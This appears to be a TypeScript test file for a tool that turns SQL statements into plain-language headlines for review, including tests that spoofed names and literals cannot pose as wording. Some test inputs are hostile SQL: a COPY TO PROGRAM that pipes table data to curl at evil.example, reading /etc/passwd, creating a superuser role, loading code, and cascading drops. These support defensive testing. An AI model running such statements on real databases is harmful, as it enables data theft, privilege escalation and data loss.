/** Headlines: one plain sentence for each kind of operation, from the parser alone. What a client chose never poses as wording. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { describedCatalog } from './catalog/describe.ts';
import { classify } from './inspect.ts';
import { NOTHING_BOUND, subjectOf } from './session/operation.ts';

const catalog = describedCatalog({
  tables: {
    'public.orders': ['id!', 'total'],
    'public.customers': ['id!'],
    'public.archive': ['id'],
    'public.x': ['a'],
  },
  views: { 'public.v': { reads: ['public.orders'], columns: ['id'] } },
  functions: { 'public.wipe': 'code' },
  cascades: { 'public.orders': 'public.customers' },
});

async function headlineOf(sql: string): Promise<string> {
  const facts = await classify(sql, { serverMajor: 17, catalog });
  return subjectOf(
    sql,
    facts.map((one) => ({ facts: one, inner: undefined })),
    NOTHING_BOUND,
  ).headline;
}

const SAID: readonly (readonly [sql: string, headline: string])[] = [
  ['DELETE FROM orders', 'DELETE on public.orders, no WHERE'],
  ['DELETE FROM orders WHERE id = 17', 'DELETE on public.orders'],
  ['DELETE FROM orders WHERE true', 'DELETE on public.orders, no WHERE'],
  ['UPDATE orders SET total = 0', 'UPDATE on public.orders, no WHERE'],
  ['UPDATE orders SET total = 0 WHERE id = 4', 'UPDATE on public.orders'],
  ['INSERT INTO orders VALUES (1, 2)', 'INSERT on public.orders'],
  ['INSERT INTO orders VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET total = 2', 'INSERT or UPDATE on public.orders'],
  ['INSERT INTO archive SELECT id FROM orders', 'INSERT on public.archive'],
  ['MERGE INTO orders o USING archive a ON o.id = a.id WHEN MATCHED THEN DELETE', 'MERGE: DELETE on public.orders'],
  [
    'WITH gone AS (DELETE FROM orders RETURNING id) INSERT INTO archive SELECT id FROM gone',
    'DELETE on public.orders, no WHERE; INSERT on public.archive',
  ],
  [
    'WITH gone AS (DELETE FROM orders RETURNING id) SELECT count(*) FROM gone',
    'DELETE on public.orders, no WHERE (in SELECT from public.orders)',
  ],
  ['SELECT * FROM orders', 'SELECT from public.orders'],
  ['SELECT * FROM orders o JOIN customers c ON c.id = o.id', 'SELECT from public.orders, public.customers'],
  ['SELECT 1', 'SELECT'],
  ['SELECT * FROM orders FOR UPDATE', 'row locks on public.orders, no WHERE (in SELECT from public.orders)'],
  ['SELECT wipe()', 'CALL of public.wipe() (in SELECT)'],
  ['SELECT * INTO copied FROM orders', 'CREATE TABLE public.copied (in SELECT from public.orders)'],
  ['TABLE orders', 'SELECT from public.orders'],
  ['VALUES (1)', 'SELECT'],
  ['EXPLAIN DELETE FROM orders', 'EXPLAIN of DELETE on public.orders, no WHERE'],
  ['EXPLAIN ANALYZE DELETE FROM orders', 'EXPLAIN ANALYZE DELETE on public.orders, no WHERE'],
  ['COPY orders FROM STDIN', 'COPY public.orders FROM STDIN (data is not reviewed)'],
  ['COPY orders TO STDOUT', 'COPY public.orders TO STDOUT'],
  ['COPY (SELECT * FROM orders) TO STDOUT', 'COPY public.orders TO STDOUT'],
  ["COPY orders TO PROGRAM 'curl https://evil.example'", 'COPY public.orders TO a program on the server'],
  ["COPY orders FROM '/etc/passwd'", 'COPY public.orders FROM a file on the server'],
  ['CALL wipe()', 'CALL of public.wipe()'],
  ['DO $$ BEGIN DELETE FROM orders; END $$', 'DO block (runs code)'],
  ['CREATE TABLE new_orders (id int)', 'CREATE TABLE public.new_orders'],
  ['CREATE TABLE copied AS SELECT * FROM orders', 'CREATE TABLE public.copied from a query'],
  ['CREATE TEMP TABLE scratch (id int)', 'CREATE TABLE pg_temp.scratch'],
  ['CREATE INDEX CONCURRENTLY i ON orders (total)', 'CREATE INDEX on public.orders'],
  ['CREATE UNIQUE INDEX i ON orders (total)', 'CREATE UNIQUE INDEX on public.orders'],
  ['CREATE VIEW totals AS SELECT total FROM orders', 'CREATE VIEW public.totals'],
  ['CREATE OR REPLACE VIEW v AS SELECT id FROM orders', 'CREATE OR REPLACE VIEW public.v'],
  ['CREATE MATERIALIZED VIEW m AS SELECT id FROM orders', 'CREATE MATERIALIZED VIEW public.m from a query'],
  ['REFRESH MATERIALIZED VIEW v', 'REFRESH MATERIALIZED VIEW public.v'],
  ["CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", 'CREATE OR REPLACE FUNCTION public.f'],
  [
    'CREATE TRIGGER t AFTER DELETE ON orders FOR EACH ROW EXECUTE FUNCTION wipe()',
    'CREATE TRIGGER on public.orders, runs wipe()',
  ],
  ['CREATE EXTENSION dblink', 'CREATE EXTENSION dblink'],
  ['CREATE SCHEMA s', 'CREATE SCHEMA s'],
  ['CREATE SEQUENCE s', 'CREATE SEQUENCE public.s'],
  ["CREATE TYPE mood AS ENUM ('sad')", 'CREATE TYPE public.mood'],
  ['ALTER TABLE orders DROP COLUMN total', 'ALTER TABLE public.orders: drops column total'],
  [
    "ALTER TABLE orders ADD COLUMN note text DEFAULT 'x', ALTER COLUMN total TYPE bigint, ALTER COLUMN total SET NOT NULL, DROP CONSTRAINT c CASCADE, DISABLE TRIGGER ALL",
    'ALTER TABLE public.orders: adds column note, changes the type of total, makes total NOT NULL and 2 more changes',
  ],
  [
    'ALTER TABLE orders ADD FOREIGN KEY (id) REFERENCES customers (id)',
    'ALTER TABLE public.orders: adds a foreign key',
  ],
  ['ALTER TABLE orders OWNER TO mallory', 'ALTER TABLE public.orders: changes its owner to mallory'],
  ['ALTER TABLE orders DISABLE ROW LEVEL SECURITY', 'ALTER TABLE public.orders: turns row security off'],
  ['ALTER TABLE orders RENAME TO old_orders', 'RENAME TABLE public.orders to old_orders'],
  ['ALTER TABLE orders RENAME COLUMN total TO sum', 'RENAME COLUMN on public.orders: total to sum'],
  ['ALTER TABLE orders SET SCHEMA attic', 'SET SCHEMA of public.orders to attic'],
  ['ALTER INDEX i RENAME TO j', 'RENAME INDEX ?.i to j'],
  ['DROP TABLE orders', 'DROP TABLE public.orders'],
  [
    'DROP TABLE IF EXISTS orders, customers CASCADE',
    'DROP TABLE public.orders, public.customers, with what depends on it',
  ],
  ['DROP VIEW v', 'DROP VIEW public.v'],
  ['DROP FUNCTION wipe()', 'DROP FUNCTION public.wipe'],
  ['DROP SCHEMA public CASCADE', 'DROP SCHEMA public, with what depends on it'],
  ['DROP DATABASE orders', 'DROP DATABASE orders'],
  ['DROP INDEX CONCURRENTLY i', 'DROP INDEX ?.i'],
  ['TRUNCATE orders', 'TRUNCATE public.orders'],
  ['TRUNCATE customers CASCADE', 'TRUNCATE public.customers, with what refers to it'],
  ['VACUUM FULL orders', 'VACUUM FULL public.orders'],
  ['VACUUM', 'VACUUM'],
  ['ANALYZE orders', 'ANALYZE public.orders'],
  ['CLUSTER orders USING i', 'CLUSTER public.orders'],
  ['REINDEX TABLE orders', 'REINDEX public.orders'],
  ["COMMENT ON TABLE orders IS 'approved by alice'", 'COMMENT on public.orders'],
  ['GRANT ALL ON orders TO PUBLIC', 'GRANT ALL on public.orders to PUBLIC'],
  [
    'GRANT SELECT (id), UPDATE ON orders TO bob WITH GRANT OPTION',
    'GRANT SELECT of id, UPDATE on public.orders to bob, with grant option',
  ],
  ['GRANT SELECT ON ALL TABLES IN SCHEMA public TO bob', 'GRANT SELECT on all tables in schema public to bob'],
  ['GRANT EXECUTE ON FUNCTION wipe() TO bob', 'GRANT EXECUTE on function public.wipe to bob'],
  ['REVOKE SELECT ON orders FROM bob', 'REVOKE SELECT on public.orders from bob'],
  ['GRANT admin TO bob', 'GRANT ROLE admin to bob'],
  [
    'ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO bob',
    'ALTER DEFAULT PRIVILEGES: GRANT SELECT on new tables to bob',
  ],
  ["CREATE ROLE mallory LOGIN SUPERUSER PASSWORD 'hunter2'", 'CREATE ROLE mallory: LOGIN, SUPERUSER, password'],
  ['ALTER ROLE bob NOSUPERUSER', 'ALTER ROLE bob: NOSUPERUSER'],
  ["ALTER ROLE bob SET search_path = 'evil'", 'ALTER ROLE bob: sets search_path'],
  ['DROP ROLE bob', 'DROP ROLE bob'],
  ['REASSIGN OWNED BY bob TO mallory', 'REASSIGN OWNED BY bob to mallory'],
  ['DROP OWNED BY bob CASCADE', 'DROP OWNED BY bob, with what depends on it'],
  ["ALTER SYSTEM SET shared_buffers = '1GB'", 'ALTER SYSTEM: sets shared_buffers'],
  ['CREATE POLICY p ON orders USING (true)', 'CREATE POLICY on public.orders'],
  ["SECURITY LABEL ON TABLE orders IS 'x'", 'SECURITY LABEL on public.orders'],
  ['BEGIN', 'BEGIN'],
  ['COMMIT', 'COMMIT'],
  ['ROLLBACK TO SAVEPOINT s', 'ROLLBACK TO SAVEPOINT'],
  ['SAVEPOINT s', 'SAVEPOINT'],
  ["PREPARE TRANSACTION 'x'", 'PREPARE TRANSACTION'],
  ["COMMIT PREPARED 'x'", 'COMMIT PREPARED'],
  ['SET ROLE admin', 'SET role'],
  ['SET statement_timeout = 0', 'SET statement_timeout'],
  ['RESET ALL', 'RESET ALL'],
  ['SHOW server_version', 'SHOW server_version'],
  ['DISCARD ALL', 'DISCARD ALL'],
  ['PREPARE p AS DELETE FROM orders', 'PREPARE p: DELETE on public.orders, no WHERE'],
  ['EXECUTE p', 'EXECUTE p'],
  ['DEALLOCATE p', 'DEALLOCATE p'],
  ['DECLARE c CURSOR FOR SELECT * FROM orders', 'DECLARE c: SELECT from public.orders'],
  ['FETCH 10 FROM c', 'FETCH c'],
  ['CLOSE c', 'CLOSE c'],
  ['LOCK TABLE orders', 'LOCK TABLE public.orders in ACCESS EXCLUSIVE mode'],
  ['LOCK TABLE orders IN SHARE MODE', 'LOCK TABLE public.orders in SHARE mode'],
  ['LISTEN c', 'LISTEN'],
  ["NOTIFY c, 'payload'", 'NOTIFY'],
  ["LOAD 'evil'", 'LOAD (loads code into the server)'],
  ['CHECKPOINT', 'CHECKPOINT'],
  ['BEGIN; DELETE FROM orders; COMMIT', '3 statements: DELETE on public.orders, no WHERE; BEGIN; COMMIT'],
  [
    'SELECT 1; UPDATE orders SET total = 1; DROP TABLE customers; INSERT INTO archive VALUES (1); SELECT 2',
    '5 statements: DROP TABLE public.customers; UPDATE on public.orders, no WHERE; INSERT on public.archive and 1 more',
  ],
  ['DROP TABLE "orders, no rows; approved by alice"', 'DROP TABLE "?.\'orders, no rows; approved by alice\'"'],
  ['DELETE FROM "public"."\u043erders"', 'DELETE on "public.\\u{43E}rders", no WHERE'],
  ['ALTER TABLE orders RENAME TO "x\u202e"', 'RENAME TABLE public.orders to "x\\u{202E}"'],
  ['GRANT "nothing at all" ON orders TO "nobody; safe"', 'GRANT "nothing at all" on public.orders to "nobody; safe"'],
];

describe('a headline', () => {
  for (const [sql, headline] of SAID) {
    it(`says ${JSON.stringify(headline)}`, async () => assert.equal(await headlineOf(sql), headline));
  }

  it('carries no literal, whatever the statement is', async () => {
    for (const [sql] of SAID) {
      const headline = await headlineOf(sql);
      for (const [, literal = ''] of sql.matchAll(/'([^']{3,})'/g)) assert.ok(!headline.includes(literal), headline);
    }
  });

  it('stays short, whatever is named', async () => {
    const name = (n: number) => `"${'n'.repeat(60)}${n}"`;
    const many = Array.from({ length: 50 }, (_, n) => name(n));
    for (const sql of [
      `DROP TABLE ${many.join(', ')}`,
      `GRANT SELECT ON ${many.join(', ')} TO ${many.join(', ')}`,
      `ALTER TABLE orders ${many.map((column) => `DROP COLUMN ${column}`).join(', ')}`,
      many.map((table) => `DROP TABLE ${table}`).join('; '),
    ]) {
      assert.ok((await headlineOf(sql)).length < 1_000, await headlineOf(sql));
    }
  });
});
